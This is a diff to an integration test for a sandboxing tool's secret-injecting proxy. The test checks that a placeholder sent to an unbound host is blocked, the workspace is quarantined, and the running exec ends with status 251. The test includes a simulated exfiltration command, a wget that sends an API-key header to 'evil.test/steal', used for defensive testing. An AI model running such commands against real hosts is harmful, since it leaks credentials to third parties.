@@ -8,8 +8,9 @@
 #   sees the real value; `slate egress` deny-all and allow rules apply to the next request; the
 #   trace records the request with the secret's name and without any value;
 #   the same placeholder towards an unbound host is not forwarded, the workspace is marked
-#   compromised in workspace.json (time, host) and its domain paused; `slate start` refuses it
-#   until `slate wipe`, after which it starts again with the mark cleared.
+#   compromised in workspace.json (time, host) and its domain paused, and the `slate exec` whose
+#   command was still running ends at once with status 251, pointing at `slate trace --leaks`;
+#   `slate start` refuses it until `slate wipe`, after which it starts again with the mark cleared.
 # The guest has busybox only (wget and nc); curl in the test image would allow HTTPS from the
 # guest too (tests/integration/proxy.sh covers TLS interception host-side).
 # Run through tests/integration/run-one, which sources lib.sh.
@@ -83,8 +84,7 @@ status() {
     "$@" >"$work/out" 2>"$work/err" || rc=$?
     echo "$rc"
 }
-# gx: run a command in the guest, with a bound on the wall clock (KILL: slate exec passes TERM
-# on to the guest command, and a paused guest never answers).
+# gx: run a command in the guest, with a bound on the wall clock (should anything hang).
 gx() { timeout -k 5 60 "$slate" --socket "$work/run/slated.sock" exec "$ws" -- "$@"; }
 
 mnt=$(make_loop_fs btrfs proxyvm 3G)
@@ -164,10 +164,13 @@ grep -qF "$real" "$work/trace.json" && fail "a real value in the trace"
 s trace $ws | grep -q "plain.bound.test" || fail "slate trace: $(s trace $ws)"
 s trace $ws | grep -q "?k=\*" || fail "query values not redacted: $(s trace $ws)"
 
-# The same placeholder towards an unbound host: 451, not forwarded, compromised, paused.
-leak_rc=$(status gx wget -q -O- --header "X-Api-Key: $PH" http://evil.test/steal)
-log "the leaking wget exited $leak_rc: $(cat "$work/err" "$work/out" | head -3)"
-[ "$leak_rc" != 0 ] || fail "the leaking request succeeded"
+# The same placeholder towards an unbound host: 451, not forwarded, compromised, paused; the exec
+# whose command still runs (the sleep after the wget) ends at once: 251, quarantined.
+t0=$(date +%s%3N)
+leak_rc=$(status gx sh -c "wget -q -O- --header 'X-Api-Key: $PH' http://evil.test/steal; sleep 50")
+log "the leaking exec exited $leak_rc after $(($(date +%s%3N) - t0)) ms: $(cat "$work/err" "$work/out" | head -3)"
+[ "$leak_rc" = 251 ] || fail "the leaking exec exited $leak_rc, want 251 (quarantined): $(cat "$work/err")"
+grep -q "slate trace $ws --leaks" "$work/err" || fail "the leaking exec's message: $(cat "$work/err")"
 grep -q " /steal" "$work/peer.log" && fail "the leaking request reached the server"
 for _ in $(seq 50); do
     [ "$(s describe $ws --json | jget compromised)" = true ] && break
